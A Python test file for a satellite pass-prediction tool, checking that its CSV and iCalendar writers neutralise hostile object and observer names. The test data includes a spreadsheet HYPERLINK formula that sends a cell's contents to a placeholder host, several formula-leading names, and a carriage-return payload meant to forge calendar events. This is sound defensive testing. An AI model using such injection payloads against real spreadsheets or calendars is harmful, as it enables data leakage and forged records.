"""Names are untrusted (issue 16): escaped for each file format where they leave.

The parser cleans names where they enter (tests/tle_cache/test_parse_hostile.py); these tests
hand the writers hostile names directly, as a store written by an older version could, to
check that each writer holds on its own: CSV cells cannot start a formula, a calendar text
cannot end its line.
"""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import icalendar
import pytest
from click.testing import CliRunner

from passpredict.cli.geo import geo_command
from passpredict.cli.sun_outages import sun_outages_command
from passpredict.output.formats import to_csv, tracks_to_csv
from passpredict.output.ical import complete_passes, escape_text, to_ics
from passpredict.products.predict import predict
from passpredict.products.track import track
from passpredict.records import Observer
from tle_cache.export import to_tle_text
from tle_cache.parse import read_file

DATA = Path(__file__).parent / "data"
START = datetime(2026, 8, 22, 12, tzinfo=UTC)
FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"ISS")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def iss():
    sets = read_file(DATA / "visibility" / "iss_25544_2026-08-21_22.tle")
    return max(sets, key=lambda es: es.epoch_utc)


def renamed(element_set, name):
    return replace(element_set, name=name, omm={**element_set.omm, "OBJECT_NAME": name})


def text_cells(rows):
    """Every cell that is not a number (numbers may be negative: they stay numbers)."""
    for row in rows:
        for value in row.values():
            try:
                float(value)
            except ValueError:
                yield value


def test_passes_csv_guards_text_cells_and_keeps_negative_numbers(iss, astronomy):
    observer = Observer("@home", 40.4093, 49.8671, -28.0)
    prediction = predict(
        [renamed(iss, FORMULA)],
        [observer],
        START,
        START + timedelta(days=1),
        10.0,
        timescale=astronomy.timescale,
        radio=True,
    )
    rows = list(csv.DictReader(io.StringIO(to_csv(prediction))))
    assert rows
    assert {row["satellite"] for row in rows} == {"'" + FORMULA}  # was written raw
    assert {row["observer"] for row in rows} == {"'@home"}
    assert not any(cell.startswith(FORMULA_STARTS) for cell in text_cells(rows))
    rates = [float(row["rise_range_rate_km_s"]) for row in rows]
    assert min(rates) < 0, "approaching at rise: a negative number, written as a number"


def test_track_csv_guards_text_cells(iss, astronomy):
    observer = Observer("-observer", 40.4093, 49.8671, -28.0)
    tracks = track(
        renamed(iss, "+ISS"),
        [observer],
        START,
        START + timedelta(minutes=5),
        60.0,
        timescale=astronomy.timescale,
    )
    rows = list(csv.DictReader(io.StringIO(tracks_to_csv(tracks))))
    assert {(row["satellite"], row["observer"]) for row in rows} == {("'+ISS", "'-observer")}
    assert any(float(row["elevation_deg"]) < 0 for row in rows)


@pytest.mark.parametrize(
    ("command", "args"),
    [
        (geo_command, ["--at", "2026-08-23T00:00Z"]),
        (sun_outages_command, ["--start", "2026-09-01T00:00Z", "--days", "60"]),
    ],
    ids=["geo", "sun-outages"],
)
def test_geo_csv_outputs_guard_text_cells(tmp_path, command, args):
    (az1,) = read_file(DATA / "geo" / "azerspace-1_39079_2026.tle")[-1:]
    path = tmp_path / "renamed.tle"
    path.write_text(to_tle_text([renamed(az1, "@AZERSPACE 1")]))
    result = CliRunner().invoke(
        command,
        ["39079", "--tle-file", str(path), "--format", "csv", *args],
        obj={"now_utc": datetime(2026, 8, 23, tzinfo=UTC)},
        env={"PASSPREDICT_HOME": str(tmp_path / "home")},
    )
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert rows
    assert {row["satellite"] for row in rows} == {"'@AZERSPACE 1"}
    assert not any(cell.startswith(FORMULA_STARTS) for cell in text_cells(rows))


def test_ical_escapes_a_lone_cr_and_drops_other_controls():
    assert escape_text("a\rb") == "a\\nb"  # was left raw
    assert escape_text("a\r\nb\nc") == "a\\nb\\nc"
    assert escape_text("a\x00b\x1b[2Jc\x7f") == "ab[2Jc"
    assert escape_text("tab\tstays") == "tab\tstays"  # RFC 5545 allows HTAB in TEXT


def test_a_crafted_name_cannot_add_calendar_events(iss, astronomy):
    crafted = "ISS\rEND:VEVENT\rBEGIN:VEVENT\rUID:forged\rSUMMARY:forged\rEND:VEVENT\rBEGIN:VEVENT"
    prediction = predict(
        [renamed(iss, crafted)],
        [Observer("Baku", 40.4093, 49.8671, -28.0, "Asia/Baku")],
        START,
        START + timedelta(days=2),
        10.0,
        timescale=astronomy.timescale,
    )
    passes = complete_passes(prediction)
    assert passes
    text = to_ics(prediction, START)
    # A parser that splits lines at a lone CR, as some do, must see one event per pass.
    lines = re.split(r"\r\n|\r|\n", text)
    assert lines.count("BEGIN:VEVENT") == len(passes)
    assert not any(line.startswith("UID:forged") for line in lines)
    events = list(icalendar.Calendar.from_ical(text).walk("VEVENT"))
    assert len(events) == len(passes)
    assert str(events[0]["SUMMARY"]).startswith("ISS\nEND:VEVENT")
